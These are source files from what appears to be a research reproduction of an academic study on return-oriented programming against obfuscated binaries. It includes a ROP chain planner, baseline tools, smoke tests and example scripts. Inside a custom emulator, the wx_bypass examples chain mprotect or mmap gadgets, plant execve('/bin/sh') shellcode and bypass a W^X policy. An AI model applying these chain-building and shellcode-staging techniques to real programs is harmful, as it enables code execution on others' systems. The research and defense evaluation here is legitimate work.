    print("=== victim binary ===")
    print(format_listing(image.text.data, image.text.addr))
    print()

    planner = GadgetPlanner(image)
    report = planner.run(goals=[execve_goal(), mprotect_goal(addr=0x600000)])

    print(f"extracted gadgets:        {report.gadgets_total}")
    print(f"after subsumption:        {report.gadgets_after_subsumption}")
    print(f"payloads per goal:        {report.per_goal}")
    print()
    for payload in report.payloads:
        print("=" * 60)
        print(payload.describe())
        print(f"validated in emulator:    {payload.validated}")
        if payload.event is not None:
            print(f"syscall observed:         {payload.event.number.name}{payload.event.args[:3]}")
    assert all(p.validated for p in report.payloads)
    print("\nall payloads executed and reached their goal syscalls ✔")


if __name__ == "__main__":
    main()
