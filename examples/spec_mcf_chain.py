#!/usr/bin/env python3
"""Fig. 6 revisited: a chain from 429.mcf that pattern tools cannot build.

Runs all four tools on the (obfuscated) mcf-like SPEC program and
prints the most interesting Gadget-Planner chain — preferring one that
uses conditional or merged-direct-jump gadgets, the gadget classes no
baseline touches (Table V).

Run:  python examples/spec_mcf_chain.py
"""

from repro.bench import build, run_tool


def main() -> None:
    program, config = "429.mcf", "llvm_obf"
    print(f"target: {program} under {config}\n")

    results = {}
    for tool in ("ropgadget", "angrop", "sgc", "gadget_planner"):
        result = run_tool(tool, program, config)
        results[tool] = result
        print(f"{tool:<16} gadgets={result.gadgets_total:<7} chains={result.total_payloads}")

    gp = results["gadget_planner"]
    if not gp.payloads:
        print("\nGadget-Planner found no chain on this build/seed — try another seed.")
        return

    def interest(payload):
        return sum(g.conditional_jumps + g.merged_direct_jumps for g in payload.chain)

    best = max(gp.payloads, key=interest)
    print("\nmost structurally diverse validated chain:")
    print(best.describe())
    conditional = sum(1 for g in best.chain if g.conditional_jumps)
    merged = sum(1 for g in best.chain if g.merged_direct_jumps)
    print(f"\nconditional-jump gadgets in chain: {conditional}")
    print(f"merged direct-jump gadgets:        {merged}")
    others = {t: r.total_payloads for t, r in results.items() if t != "gadget_planner"}
    print(f"baseline chain counts for comparison: {others}")


if __name__ == "__main__":
    main()
