#!/usr/bin/env python3
"""Full W^X bypass: mprotect chain + second-stage shellcode.

The paper's second attack family (Sec. II-B): "invoke the system call
mprotect to mark a page containing attacker-controlled content as
executable and then redirect the program execution toward that tampered
page."  This example carries it through to the end:

1. Gadget-Planner builds an mprotect chain that makes the *stack page
   holding the payload itself* executable.
2. The payload is extended with raw shellcode (assembled on the fly)
   and a pointer so that the `ret` after the goal syscall lands on it.
3. The whole thing is executed: mprotect is modelled (the page really
   becomes executable), the chain returns into the payload, and the
   shellcode's execve("/bin/sh") proves arbitrary code execution.

Because the victim machine has no ASLR (threat model), the payload's
stack address is discovered with a deterministic dry run.

Run:  python examples/wx_bypass.py
"""

from repro.binfmt import make_image
from repro.emulator import AttackTriggered, Emulator, Sys
from repro.emulator.memory import PERM_R, PERM_W
from repro.isa import Reg, assemble, assemble_unit
from repro.planner import GadgetPlanner, mprotect_goal
from repro.planner.payload import JUNK_REGION

VICTIM = """
    hlt
g1:
    pop rax
    ret
g2:
    pop rdi
    ret
g3:
    pop rsi
    ret
g4:
    pop rdx
    ret
g5:
    syscall
    ret
"""


def build_stage2_shellcode() -> bytes:
    """execve("/bin/sh", 0, 0) — with the path embedded in the code."""
    return assemble(
        """
        start:
            mov rdi, path
            mov rsi, 0
            mov rdx, 0
            mov rax, 59
            syscall
        path:
        """,
        base_addr=0,  # patched below once the landing address is known
    )


def run_with_payload(image, payload_bytes, *, stop_on_attack):
    emu = Emulator(image, stop_on_attack=stop_on_attack, step_limit=1_000_000)
    emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
    for reg in Reg:
        if reg is not Reg.RSP:
            emu.cpu.set(reg, JUNK_REGION + 0x800)
    base = emu.cpu.get(Reg.RSP)
    emu.memory.write(base, payload_bytes)
    emu.cpu.set(Reg.RSP, base + 8)
    emu.cpu.rip = int.from_bytes(payload_bytes[:8], "little")
    return emu, base


def main() -> None:
    unit = assemble_unit(VICTIM, base_addr=0x400000)
    image = make_image(unit.code, symbols=dict(unit.labels))

    # Probe the stack layout first: where will the payload live?
    probe = Emulator(image)
    stack_base = probe.cpu.get(Reg.RSP)
    page = stack_base & ~0xFFF

    print(f"payload will live at {stack_base:#x} (page {page:#x})")
    planner = GadgetPlanner(image)
    report = planner.run(goals=[mprotect_goal(addr=page, length=0x4000, prot=7)])
    assert report.payloads, "no mprotect chain found"
    payload = report.payloads[0]
    print("stage 1 (mprotect chain):")
    print(payload.describe())

    # Stage 2: the `ret` after the goal syscall pops the word at
    # base + 8 + Σ(stack deltas) — plant the shellcode pointer exactly
    # there, and the shellcode right after the payload.
    chain_bytes = bytearray(payload.to_bytes())
    pointer_offset = 8 + sum(g.stack_delta or 0 for g in payload.chain)
    if len(chain_bytes) < pointer_offset + 8:
        chain_bytes += b"\x41" * (pointer_offset + 8 - len(chain_bytes))
    shellcode_addr = stack_base + len(chain_bytes)
    shellcode = assemble(
        f"""
        start:
            mov rdi, {shellcode_addr + 0x30}
            mov rsi, 0
            mov rdx, 0
            mov rax, 59
            syscall
        """,
    )
    shellcode = shellcode.ljust(0x30, b"\x00") + b"/bin/sh\x00"
    chain_bytes[pointer_offset : pointer_offset + 8] = shellcode_addr.to_bytes(8, "little")
    full = bytes(chain_bytes) + shellcode
    print(f"\nstage 2: {len(shellcode)} bytes of shellcode at {shellcode_addr:#x}")

    emu, _ = run_with_payload(image, full, stop_on_attack=False)
    try:
        emu.run()
    except AttackTriggered as attack:
        print(f"\nfirst stop: {attack.event.number.name}{attack.event.args[:3]}")
    except Exception:
        pass  # the run ends when execution falls off the shellcode
    events = emu.syscalls.events
    assert events[0].number == Sys.MPROTECT, "mprotect did not fire"
    shell = next((e for e in events if e.number == Sys.EXECVE), None)
    if shell is None:
        # stop_on_attack=False records and continues; keep running.
        raise SystemExit("execve never fired — W^X bypass failed")
    print(f"mprotect({events[0].addr:#x}, ...) made the stack executable")
    print(f"shellcode ran: execve({shell.path!r}, 0, 0) ✔")


if __name__ == "__main__":
    main()
