#!/usr/bin/env python3
"""W^X bypass under an *enforced* W^X policy: mprotect dies, mmap wins.

The paper's second attack family (Sec. II-B) marks a page holding
attacker content executable and jumps into it.  Earlier revisions of
this example ran that mprotect route on an undefended victim; here the
victim actually deploys W^X (``repro.defenses``, modelled as an
mprotect-hooking monitor that vetoes +X on writable memory), and the
example shows all three acts:

1. **mprotect route, blocked** — the classic chain asks for
   ``mprotect(stack_page, RWX)``; the policy vetoes it with ``-EACCES``
   and the "shellcode" on the stack stays data.
2. **mmap route, end to end** — the same gadget set instead calls
   ``mmap(0, 0x1000, RWX)``.  Fresh mappings don't trip an
   mprotect-hooking deployment, the model hands back a deterministic
   RWX page, the chain's continuation *writes the shellcode into it*
   with the write-what-where gadget and returns into it:
   ``execve("/bin/sh")`` fires under the enforced policy.
3. **strict mmap closes the hole** — under ``wx_strict`` the W|X mmap
   is vetoed too and the whole bypass collapses.

Run:  python examples/wx_bypass.py
"""

import struct

from repro.binfmt import make_image
from repro.defenses import POLICIES, PolicyEnforcer
from repro.emulator import Emulator, Sys
from repro.emulator.memory import PERM_R, PERM_W
from repro.emulator.syscalls import MMAP_BASE
from repro.isa import Reg, assemble, assemble_unit
from repro.planner import GadgetPlanner, mmap_goal, mprotect_goal
from repro.planner.payload import JUNK_REGION

VICTIM = """
    hlt
g_pop_rax:
    pop rax
    ret
g_pop_rdi:
    pop rdi
    ret
g_pop_rsi:
    pop rsi
    ret
g_pop_rdx:
    pop rdx
    ret
g_write:
    mov [rdi+0], rsi
    ret
g_syscall:
    syscall
    ret
"""

_EACCES = (-13) & ((1 << 64) - 1)


def run_enforced(image, payload_bytes, policy):
    """Execute raw payload bytes on the stack with ``policy`` enforced."""
    emu = Emulator(image, stop_on_attack=False, step_limit=1_000_000)
    enforcer = PolicyEnforcer(policy, image=image).install(emu)
    emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
    for reg in Reg:
        if reg is not Reg.RSP:
            emu.cpu.set(reg, JUNK_REGION + 0x800)
    base = emu.cpu.get(Reg.RSP)
    emu.memory.write(base, payload_bytes)
    emu.cpu.set(Reg.RSP, base + 8)
    emu.cpu.rip = int.from_bytes(payload_bytes[:8], "little")
    try:
        emu.run()
    except Exception:
        pass  # the run ends when execution falls off the payload
    return emu, enforcer


def continuation_offset(payload) -> int:
    """Stack offset the goal gadget's trailing ``ret`` pops from."""
    return 8 + sum(g.stack_delta or 0 for g in payload.chain)


def splice(payload, extra_words) -> bytes:
    """Payload bytes with ``extra_words`` spliced in at the ret slot."""
    blob = bytearray(payload.to_bytes())
    offset = continuation_offset(payload)
    if len(blob) < offset:
        blob += b"\x41" * (offset - len(blob))
    return bytes(blob[:offset]) + b"".join(
        struct.pack("<Q", w & ((1 << 64) - 1)) for w in extra_words
    )


def build_shellcode(base_addr) -> bytes:
    """execve("/bin/sh", 0, 0), path embedded, padded to whole qwords."""
    code = assemble(
        f"""
        start:
            mov rdi, {base_addr + 0x30}
            mov rsi, 0
            mov rdx, 0
            mov rax, 59
            syscall
        """,
    )
    blob = code.ljust(0x30, b"\x00") + b"/bin/sh\x00"
    return blob.ljust((len(blob) + 7) & ~7, b"\x00")


def main() -> None:
    unit = assemble_unit(VICTIM, base_addr=0x400000)
    image = make_image(unit.code, symbols=dict(unit.labels))
    labels = unit.labels
    wx = POLICIES["wx"]

    # -- act 1: the mprotect route dies under W^X -------------------------
    probe = Emulator(image)
    page = probe.cpu.get(Reg.RSP) & ~0xFFF
    planner = GadgetPlanner(image)
    report = planner.run(goals=[mprotect_goal(addr=page, length=0x4000, prot=7)])
    assert report.payloads, "no mprotect chain found"
    emu, enforcer = run_enforced(image, report.payloads[0].to_bytes(), wx)
    assert enforcer.denied_syscalls, "W^X monitor saw no mprotect?"
    assert not any(e.number == Sys.MPROTECT for e in emu.syscalls.events)
    assert emu.cpu.get(Reg.RAX) == _EACCES or not emu.syscalls.events
    print(f"act 1: mprotect(stack_page, RWX) vetoed with -EACCES under {wx}")

    # -- act 2: mmap(RWX) + write-what-where, end to end ------------------
    report = planner.run(goals=[mmap_goal(length=0x1000, prot=7)])
    assert report.payloads, "no mmap chain found"
    payload = report.payloads[0]
    print("\nact 2: stage 1 (mmap chain):")
    print(payload.describe())

    # The model's anonymous-mmap allocator is deterministic: the fresh
    # RWX page lands at MMAP_BASE.  Continue the chain after the goal
    # syscall: write the shellcode into the page 8 bytes at a time with
    # the write gadget, then ret straight into it.
    shellcode = build_shellcode(MMAP_BASE)
    extra = []
    for i in range(0, len(shellcode), 8):
        (chunk,) = struct.unpack("<Q", shellcode[i : i + 8])
        extra += [labels["g_pop_rdi"], MMAP_BASE + i]
        extra += [labels["g_pop_rsi"], chunk]
        extra += [labels["g_write"]]
    extra.append(MMAP_BASE)
    full = splice(payload, extra)
    print(
        f"stage 2: {len(shellcode)} shellcode bytes written to {MMAP_BASE:#x} "
        f"by {len(shellcode) // 8} write gadgets, then ret into the mapping"
    )

    emu, enforcer = run_enforced(image, full, wx)
    events = emu.syscalls.events
    assert enforcer.denied_syscalls == [], "plain wx must not veto fresh mmap"
    assert events and events[0].number == Sys.MMAP, "mmap never fired"
    shell = next((e for e in events if e.number == Sys.EXECVE), None)
    assert shell is not None, "execve never fired — W^X bypass failed"
    assert shell.path == b"/bin/sh"
    print(f"mmap(0, 0x1000, RWX) -> {MMAP_BASE:#x} (fresh pages, not hooked)")
    print(f"shellcode ran under enforced W^X: execve({shell.path!r}, 0, 0) ✔")

    # -- act 3: strict mmap hooking closes the bypass ---------------------
    emu, enforcer = run_enforced(image, full, POLICIES["wx_strict"])
    assert enforcer.denied_syscalls, "strict policy must veto W|X mmap"
    assert not any(e.number == Sys.EXECVE for e in emu.syscalls.events)
    print(f"\nact 3: under {POLICIES['wx_strict']} the W|X mmap is vetoed too —")
    print("the write gadgets fault on the unmapped page and no shell spawns ✔")


if __name__ == "__main__":
    main()
