#!/usr/bin/env python
"""CI smoke test for the repro.pipeline fast paths.

Tiny binary, ``--jobs 2``: a cold run populates the cache, a warm run
must hit it, perform zero symbolic execution, and return the identical
pool.  Budgeted well under a minute on a 1-core runner.
"""

import sys
import tempfile
import time
from pathlib import Path

from repro.bench.harness import build
from repro.gadgets.extract import ExtractionConfig, ExtractionStats
from repro.pipeline import ResultCache, extract_pool, pool_to_bytes


def main() -> int:
    image = build("bubble_sort", "llvm_obf", 7).image
    config = ExtractionConfig(max_insns=6, max_paths=2)
    with tempfile.TemporaryDirectory(prefix="nfl-smoke-") as td:
        cache = ResultCache(root=Path(td))

        cold_stats = ExtractionStats()
        t0 = time.perf_counter()
        cold = extract_pool(image, config, cold_stats, jobs=2, cache=cache)
        cold_wall = time.perf_counter() - t0

        warm_stats = ExtractionStats()
        t0 = time.perf_counter()
        warm = extract_pool(image, config, warm_stats, jobs=2, cache=cache)
        warm_wall = time.perf_counter() - t0

    print(
        f"cold: {len(cold)} gadgets in {cold_wall:.2f}s "
        f"(jobs={cold_stats.jobs}, symex={cold_stats.symex_invocations}) | "
        f"warm: {warm_wall:.3f}s "
        f"(cache_hits={warm_stats.cache_hits}, symex={warm_stats.symex_invocations})"
    )
    assert cold_stats.cache_misses == 1, "cold run should miss the empty cache"
    assert warm_stats.cache_hits == 1, "warm run must reuse the cached pool"
    assert warm_stats.symex_invocations == 0, "warm run must not re-execute"
    assert pool_to_bytes(warm) == pool_to_bytes(cold), "warm pool differs from cold"
    print("pipeline smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
