#!/usr/bin/env python
"""CI smoke test for the repro.pipeline fast paths and trace export.

Tiny binary, ``--jobs 2``: a cold run populates the cache, a warm run
must hit it, perform zero symbolic execution, and return the identical
pool.  Both runs are recorded with ``repro.obs`` tracers; the cold
trace is written to JSONL and validated against the trace schema, and
two warm traces must agree byte for byte once timestamps are stripped.

A defense-census smoke rides on the warm cache: the combined
coarse-CFI + W^X policy filtered over the same obfuscated image must
leave a nonzero surviving pool and produce a schema-valid census
artifact.  Budgeted well under a minute on a 1-core runner.
"""

import sys
import tempfile
import time
from pathlib import Path

from repro.bench.harness import build
from repro.gadgets.extract import ExtractionConfig, ExtractionStats
from repro.obs import (
    Tracer,
    metrics,
    reset_metrics,
    strip_timestamps,
    tracing,
    validate_trace_file,
)
from repro.pipeline import ResultCache, extract_pool, pool_to_bytes


def _traced_extract(image, config, cache):
    stats = ExtractionStats()
    reset_metrics()
    tracer = Tracer()
    t0 = time.perf_counter()
    with tracing(tracer):
        records = extract_pool(image, config, stats, jobs=2, cache=cache)
    return records, stats, time.perf_counter() - t0, tracer


def main() -> int:
    image = build("bubble_sort", "llvm_obf", 7).image
    config = ExtractionConfig(max_insns=6, max_paths=2)
    with tempfile.TemporaryDirectory(prefix="nfl-smoke-") as td:
        cache = ResultCache(root=Path(td))

        cold, cold_stats, cold_wall, cold_tracer = _traced_extract(image, config, cache)
        trace_path = Path(td) / "cold.jsonl"
        span_count = cold_tracer.write_jsonl(trace_path, metrics=metrics().to_dict())
        spans = validate_trace_file(trace_path)
        names = {s["name"] for s in spans}

        warm, warm_stats, warm_wall, warm_tracer = _traced_extract(image, config, cache)
        _, _, _, warm_tracer2 = _traced_extract(image, config, cache)

    print(
        f"cold: {len(cold)} gadgets in {cold_wall:.2f}s "
        f"(jobs={cold_stats.jobs}, symex={cold_stats.symex_invocations}) | "
        f"warm: {warm_wall:.3f}s "
        f"(cache_hits={warm_stats.cache_hits}, symex={warm_stats.symex_invocations}) | "
        f"trace: {span_count} spans"
    )
    assert cold_stats.cache_misses == 1, "cold run should miss the empty cache"
    assert warm_stats.cache_hits == 1, "warm run must reuse the cached pool"
    assert warm_stats.symex_invocations == 0, "warm run must not re-execute"
    assert warm_stats.jobs == 2, "warm run must report the configured jobs"
    assert pool_to_bytes(warm) == pool_to_bytes(cold), "warm pool differs from cold"
    assert {"extract", "extract.plan", "extract.symex"} <= names, f"trace missing stages: {names}"
    assert any(s["name"] == "extract.symex.run" for s in spans), "no worker shard spans"
    assert abs(spans[0]["wall"] - cold_stats.wall_total) <= 0.05 * max(
        cold_stats.wall_total, 1e-9
    ), "trace root wall must match span-derived stats"
    assert strip_timestamps(warm_tracer.to_lines()) == strip_timestamps(
        warm_tracer2.to_lines()
    ), "warm traces must be byte-stable modulo timestamps"
    print("pipeline smoke OK")
    defense_smoke(image, config)
    return 0


def defense_smoke(image, config) -> None:
    """Defense-census smoke: coarse CFI + W^X over the obfuscated image."""
    import json

    from repro.defenses import defense_census, parse_policy, validate_defense_matrix

    policy = parse_policy("coarse_cfi+wx")
    doc = defense_census(image, [policy, "none"], extraction=config)
    row = next(r for r in doc["policies"] if r["policy"] == policy.name)
    print(
        f"defense census [{policy.describe()}]: "
        f"{row['surviving']}/{row['pool_size']} gadgets survive "
        f"(cfi killed {row['killed_cfi']})"
    )
    assert doc["pool_size"] > 0, "no gadget pool to filter"
    assert 0 < row["surviving"] <= row["pool_size"], "coarse CFI+W^X left no surface"
    assert row["killed_cfi"] > 0, "obfuscated build should lose unaligned gadgets"
    baseline = next(r for r in doc["policies"] if r["policy"] == "none")
    assert baseline["surviving"] == doc["pool_size"]

    # The census row embeds into a schema-valid matrix artifact.
    entry = {
        "program": "bubble_sort",
        "config": "llvm_obf",
        "policy": policy.name,
        "pool_size": row["pool_size"],
        "surviving": row["surviving"],
        "survival_ratio": row["survival_ratio"],
        "payloads": 0,
        "goals_attempted": 0,
        "goals_succeeded": 0,
        "success_rate": 0.0,
        "blocked_by_defense": 0,
        "per_goal": {},
    }
    artifact = {
        "schema": "nfl-bench-defenses-v1",
        "programs": ["bubble_sort"],
        "configs": ["llvm_obf"],
        "policies": [policy.name],
        "entries": [json.loads(json.dumps(entry))],
    }
    validate_defense_matrix(artifact)
    print("defense smoke OK")


if __name__ == "__main__":
    sys.exit(main())
