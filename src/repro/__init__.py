"""Gadget-Planner: a reproduction of "No Free Lunch: On the Increased
Code Reuse Attack Surface of Obfuscated Programs" (DSN 2023).

The package is organised bottom-up:

* :mod:`repro.isa`, :mod:`repro.binfmt`, :mod:`repro.emulator` — the
  NFL machine: an x86-64-flavoured ISA with variable-length encoding,
  an executable container, and a concrete interpreter.
* :mod:`repro.lang`, :mod:`repro.compiler` — a mini-C frontend and a
  compiler targeting the NFL machine.
* :mod:`repro.obfuscation` — Obfuscator-LLVM- and Tigress-style passes.
* :mod:`repro.symex`, :mod:`repro.solver` — bit-vector symbolic
  execution and a bit-blasting SAT-based constraint solver.
* :mod:`repro.gadgets` — gadget extraction, records, classification,
  and subsumption testing.
* :mod:`repro.planner` — the paper's contribution: partial-order
  planning over gadget semantics, payload emission, goal library.
* :mod:`repro.baselines` — ROPGadget-, angrop-, and SGC-style tools.
* :mod:`repro.bench` — benchmark program suites and the experiment
  harness behind every table and figure.
"""

__version__ = "0.1.0"

__all__ = ["__version__"]
