"""Binary analysis: CFG recovery."""

from .cfg import CFG, BasicBlock, recover_cfg

__all__ = ["BasicBlock", "CFG", "recover_cfg"]
