"""Control-flow-graph recovery on raw binaries.

Classic recursive-traversal disassembly: start from every known entry
point (function symbols plus the image entry), follow direct control
flow, collect leaders, and split the instruction stream into basic
blocks.  Gadget extraction uses the recovered blocks as its aligned
probe points (the paper: "decode from the valid starting position of
each basic block"), on top of its unaligned probing.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Set, Tuple

from ..binfmt.image import BinaryImage
from ..isa.encoding import DecodeError, decode
from ..isa.instructions import Instruction, Op


@dataclass
class BasicBlock:
    start: int
    instructions: List[Instruction] = field(default_factory=list)
    successors: Tuple[int, ...] = ()

    @property
    def end(self) -> int:
        if not self.instructions:
            return self.start
        return self.instructions[-1].end

    @property
    def terminator(self) -> Optional[Instruction]:
        return self.instructions[-1] if self.instructions else None


@dataclass
class CFG:
    blocks: Dict[int, BasicBlock] = field(default_factory=dict)
    entries: Set[int] = field(default_factory=set)

    @property
    def num_blocks(self) -> int:
        return len(self.blocks)

    def block_starts(self) -> List[int]:
        return sorted(self.blocks)

    def conditional_edges(self) -> int:
        return sum(
            1
            for b in self.blocks.values()
            if b.terminator is not None and b.terminator.is_cond_jump()
        )


def _successor_addrs(insn: Instruction) -> Tuple[List[int], bool]:
    """(direct successor addresses, falls_through)."""
    op = insn.op
    if op == Op.JMP_REL:
        return [insn.target], False
    if insn.is_cond_jump():
        return [insn.target], True
    if op == Op.CALL_REL:
        # Treat the callee as a separate entry; the call falls through.
        return [insn.target], True
    if op in (Op.RET, Op.HLT, Op.JMP_R, Op.JMP_M):
        return [], False
    if op == Op.CALL_R:
        return [], True
    if op == Op.SYSCALL:
        return [], True
    return [], True  # non-terminator


def recover_cfg(
    image: BinaryImage,
    *,
    decoder: Optional[Callable[[int], Optional[Instruction]]] = None,
) -> CFG:
    """Recover basic blocks over the image's text section.

    ``decoder`` (addr → Instruction|None) lets callers share a decode
    cache — gadget extraction passes its ``DecodeGraph`` so the section
    is not decoded a second time.
    """
    text = image.text
    data = text.data
    base = text.addr

    def in_text(addr: int) -> bool:
        return base <= addr < base + len(data)

    def _decode_fresh(addr: int) -> Optional[Instruction]:
        try:
            return decode(data, addr - base, addr=addr)
        except DecodeError:
            return None

    decode_at = decoder if decoder is not None else _decode_fresh

    entries = {addr for name, addr in image.symbols.items() if in_text(addr)}
    entries.add(image.entry)

    # Pass 1: walk from entries, decode instructions, collect leaders.
    insn_at: Dict[int, Instruction] = {}
    leaders: Set[int] = set(e for e in entries if in_text(e))
    work = list(leaders)
    visited: Set[int] = set()
    while work:
        addr = work.pop()
        while in_text(addr) and addr not in visited:
            insn = decode_at(addr)
            if insn is None:
                break
            visited.add(addr)
            insn_at[addr] = insn
            targets, falls = _successor_addrs(insn)
            for t in targets:
                if in_text(t):
                    leaders.add(t)
                    work.append(t)
            if insn.is_terminator():
                if falls and in_text(insn.end):
                    leaders.add(insn.end)
                    work.append(insn.end)
                break
            addr = insn.end

    # Pass 2: split the decoded stream at leaders.
    cfg = CFG(entries=set(e for e in entries if in_text(e)))
    for leader in sorted(leaders):
        if leader not in insn_at:
            continue
        block = BasicBlock(start=leader)
        addr = leader
        while addr in insn_at:
            insn = insn_at[addr]
            block.instructions.append(insn)
            if insn.is_terminator() or insn.end in leaders:
                break
            addr = insn.end
        term = block.terminator
        successors: List[int] = []
        if term is not None:
            targets, falls = _successor_addrs(term)
            if term.is_terminator():
                successors.extend(t for t in targets if t in leaders)
                if falls and term.end in leaders:
                    successors.append(term.end)
            elif term.end in leaders:
                successors.append(term.end)
        block.successors = tuple(successors)
        cfg.blocks[leader] = block
    return cfg
