"""Baseline code-reuse tools: ROPGadget-, angrop-, and SGC-style."""

from .angrop import AngropLike
from .common import BaselineReport, BaselineTool
from .ropgadget import ROPGadgetLike
from .sgc import SGCLike

ALL_BASELINES = (ROPGadgetLike, AngropLike, SGCLike)

__all__ = [
    "ALL_BASELINES",
    "AngropLike",
    "BaselineReport",
    "BaselineTool",
    "ROPGadgetLike",
    "SGCLike",
]
