"""Angrop-like baseline: semantic gadget signatures + greedy chaining.

Resilient to instruction substitution (it matches *semantics*, so an
obfuscated ``pop rdi``-equivalent still registers), but — per the
paper's analysis — it only accepts ret-terminated, precondition-free
gadgets matching its fixed signatures ("it only uses pop reg; ret to
assign a value to registers regardless of all other equivalent gadget
variants"), and it chains greedily with no backtracking, no conditional
gadgets, no direct-jump merging.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..binfmt.image import BinaryImage
from ..isa.registers import Reg
from ..symex.executor import EndKind
from ..symex.expr import BVSym
from ..symex.state import stack_sym_offset
from ..gadgets.extract import ExtractionConfig, extract_gadgets
from ..gadgets.record import GadgetRecord
from ..planner.goals import ResolvedGoal
from ..planner.payload import FILLER_WORD, AttackPayload
from .common import BaselineTool

#: Gadgets longer than this do not match angrop's signatures.
_MAX_SIGNATURE_INSNS = 4


def _as_setters(gadget: GadgetRecord) -> List[Tuple[Reg, int]]:
    """Match the `set register from stack` signature.

    Requires: ret-terminated, no preconditions, constant stack delta,
    no memory side effects.  Every changed register whose final value
    is one payload word at a fixed offset counts as settable (angrop
    records the other clobbers; a clobber that breaks the chain shows
    up as a validation failure, matching its greedy behaviour).
    """
    if gadget.end is not EndKind.RET or gadget.pre_cond or gadget.stack_smashed:
        return []
    if gadget.num_insns > _MAX_SIGNATURE_INSNS or gadget.stack_delta is None:
        return []
    if gadget.has_side_memory_writes or gadget.conditional_jumps or gadget.merged_direct_jumps:
        return []
    out: List[Tuple[Reg, int]] = []
    for reg in gadget.clob_regs:
        if reg is Reg.RSP:
            continue
        post = gadget.post_regs[reg]
        if isinstance(post, BVSym):
            offset = stack_sym_offset(post.name)
            if offset is not None and 0 <= offset < (gadget.stack_delta - 8):
                out.append((reg, offset))
    return out


def _as_writer(gadget: GadgetRecord) -> Optional[Tuple[Reg, Reg]]:
    """Match the `mem[reg1] = reg2` signature."""
    if gadget.end is not EndKind.RET or gadget.pre_cond or gadget.stack_smashed:
        return None
    if gadget.num_insns > _MAX_SIGNATURE_INSNS or gadget.stack_delta is None:
        return None
    if gadget.conditional_jumps or gadget.merged_direct_jumps:
        return None
    side = [w for w in gadget.mem_writes if w.stack_offset is None and w.width == 8]
    if len(side) != 1 or len(gadget.mem_writes) != 1:
        return None
    write = side[0]
    if not isinstance(write.addr, BVSym) or not isinstance(write.value, BVSym):
        return None
    if not write.addr.name.endswith("0") or not write.value.name.endswith("0"):
        return None
    from ..isa.registers import reg_by_name

    return reg_by_name(write.addr.name[:-1]), reg_by_name(write.value.name[:-1])


def _as_syscall(gadget: GadgetRecord) -> bool:
    return (
        gadget.end is EndKind.SYSCALL
        and not gadget.pre_cond
        and not gadget.conditional_jumps
        and gadget.num_insns <= 2
    )


class AngropLike(BaselineTool):
    """Semantic signatures, greedy `set_regs`-style chaining."""

    name = "angrop"

    def __init__(self, extraction: Optional[ExtractionConfig] = None):
        self.extraction = extraction or ExtractionConfig(
            include_conditional=False, merge_direct_jumps=False
        )

    def find_gadgets(self, image: BinaryImage) -> List[GadgetRecord]:
        return extract_gadgets(image, self.extraction)

    def build_chains(
        self, image: BinaryImage, gadgets: List[GadgetRecord], resolved: ResolvedGoal
    ) -> List[AttackPayload]:
        setters: Dict[Reg, Tuple[GadgetRecord, int]] = {}
        writer: Optional[Tuple[GadgetRecord, Reg, Reg]] = None
        syscall_gadget: Optional[GadgetRecord] = None
        for g in gadgets:
            for reg, offset in _as_setters(g):
                best = setters.get(reg)
                # Prefer the shortest gadget with the fewest clobbers.
                key = (len(g.clob_regs), g.stack_delta)
                if best is None or key < (len(best[0].clob_regs), best[0].stack_delta):
                    setters[reg] = (g, offset)
            wr = _as_writer(g)
            if wr is not None and writer is None:
                writer = (g, wr[0], wr[1])
            if _as_syscall(g) and syscall_gadget is None:
                syscall_gadget = g
        if syscall_gadget is None:
            return []

        words: List[int] = []
        chain: List[GadgetRecord] = []

        def emit_setter(reg: Reg, value: int) -> bool:
            entry = setters.get(reg)
            if entry is None:
                return False
            gadget, offset = entry
            words.append(gadget.location)
            chain.append(gadget)
            block = [FILLER_WORD] * (gadget.stack_delta // 8 - 1)
            block[offset // 8] = value
            words.extend(block)
            return True

        # Greedy, fixed order — no conflict analysis (angrop's weakness:
        # if a later setter clobbers an earlier register, the chain just
        # fails validation).
        for mg in resolved.memory_goals:
            if writer is None:
                return []
            wgadget, addr_reg, val_reg = writer
            if addr_reg not in setters or val_reg not in setters or addr_reg == val_reg:
                return []
            for target_addr, word in mg.words():
                if not emit_setter(addr_reg, target_addr):
                    return []
                if not emit_setter(val_reg, word):
                    return []
                words.append(wgadget.location)
                chain.append(wgadget)
                words.extend([FILLER_WORD] * (wgadget.stack_delta // 8 - 1))
        for reg, value in resolved.reg_values.items():
            if not emit_setter(reg, value):
                return []
        words.append(syscall_gadget.location)
        chain.append(syscall_gadget)

        payload = AttackPayload(
            goal_name=resolved.goal.name,
            words=words,
            chain=chain,
            entry_address=words[0],
        )
        return [payload]
