"""Shared infrastructure for the baseline code-reuse tools."""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from ..binfmt.image import BinaryImage
from ..planner.goals import AttackGoal, ResolvedGoal, resolve_goal, standard_goals
from ..planner.payload import AttackPayload, validate_payload


@dataclass
class BaselineReport:
    """Mirror of :class:`repro.planner.PlannerReport` for peer tools."""

    tool: str
    gadgets_total: int = 0
    payloads: List[AttackPayload] = field(default_factory=list)
    per_goal: Dict[str, int] = field(default_factory=dict)
    finding_time: float = 0.0
    chaining_time: float = 0.0

    @property
    def total_payloads(self) -> int:
        return len(self.payloads)

    def gadgets_used(self) -> int:
        return sum(len(p.chain) for p in self.payloads)


class BaselineTool:
    """Interface every baseline implements."""

    name = "baseline"

    def find_gadgets(self, image: BinaryImage):  # pragma: no cover - interface
        raise NotImplementedError

    def build_chains(
        self, image: BinaryImage, gadgets, resolved: ResolvedGoal
    ) -> List[AttackPayload]:  # pragma: no cover - interface
        raise NotImplementedError

    def run(
        self, image: BinaryImage, goals: Optional[Sequence[AttackGoal]] = None
    ) -> BaselineReport:
        report = BaselineReport(tool=self.name)
        goals = list(goals) if goals is not None else standard_goals(image)
        t0 = time.perf_counter()
        gadgets = self.find_gadgets(image)
        report.gadgets_total = len(gadgets)
        report.finding_time = time.perf_counter() - t0

        t1 = time.perf_counter()
        for goal in goals:
            report.per_goal.setdefault(goal.name, 0)
            try:
                resolved = resolve_goal(image, goal)
            except ValueError:
                continue
            for payload in self.build_chains(image, gadgets, resolved):
                if validate_payload(image, payload, resolved):
                    report.payloads.append(payload)
                    report.per_goal[goal.name] += 1
        report.chaining_time = time.perf_counter() - t1
        return report
